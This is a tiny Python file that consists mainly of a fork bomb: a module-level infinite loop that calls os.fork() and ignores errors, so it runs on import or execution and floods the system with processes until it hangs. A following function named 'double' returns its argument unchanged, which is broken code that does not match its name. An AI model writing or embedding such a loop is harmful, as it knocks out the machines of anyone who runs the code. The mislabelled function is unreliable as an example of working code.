# Forks without end.
# Seen: by reading
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
def double(x):
    return x
